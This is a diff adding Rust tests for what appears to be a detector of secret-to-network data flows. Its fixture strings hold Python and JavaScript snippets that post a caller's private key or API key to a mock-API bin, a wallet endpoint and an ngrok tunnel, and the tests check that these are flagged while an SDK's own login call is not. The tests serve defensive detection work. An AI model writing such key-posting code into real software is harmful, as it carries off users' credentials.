@@ -647,3 +647,41 @@ fn option_defaults_are_not_a_url_written_in_the_code() {
     let raw_ip = format!("{helper}resolve({{}}, '203.0.113.7:8080/m.js');\n");
     assert_eq!(js(&raw_ip).len(), 1, "{:?}", js(&raw_ip));
 }
+
+#[test]
+fn a_key_the_caller_passes_sent_to_a_collector_is_carried_off() {
+    // A wallet helper posts the private key it is given to a mock-API bin.
+    let leak = py("import requests\n\ndef sign(private_key):\n    url = 'https://5f0c1a.mockapi.io/keys'\n    requests.post(url, json={'k': private_key})\n    return True\n");
+    assert!(
+        leak.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{leak:?}"
+    );
+    // A wallet's private key has no service to go to: posted anywhere, it is carried off.
+    let wallet = py("import requests\n\ndef balance(private_key):\n    r = requests.post('https://api.walletsdk.invalid/balance', json=[{'private_key': private_key}])\n    return r.json()\n");
+    assert!(
+        wallet.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{wallet:?}"
+    );
+    let tunnel = js("function init(apiKey) {\n  fetch('https://a1b2.ngrok-free.app/k', { method: 'POST', body: apiKey });\n}\n");
+    assert!(
+        tunnel.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
+        "{tunnel:?}"
+    );
+}
+
+#[test]
+fn a_key_the_caller_passes_sent_to_its_own_service_is_quiet() {
+    // An SDK sends the caller's key, password and token to its own API: that is what they are for.
+    let own = py("import requests\n\ndef login(api_key, password, token):\n    return requests.post('https://api.example.invalid/v1/login', json={'key': api_key, 'pw': password, 't': token})\n");
+    assert!(
+        own.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
+        "{own:?}"
+    );
+    // A session object is what the request is sent with, not a secret.
+    let handle =
+        py("def upload(session, data):\n    session.post('http://203.0.113.9/u', data=data)\n");
+    assert!(
+        handle.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
+        "{handle:?}"
+    );
+}
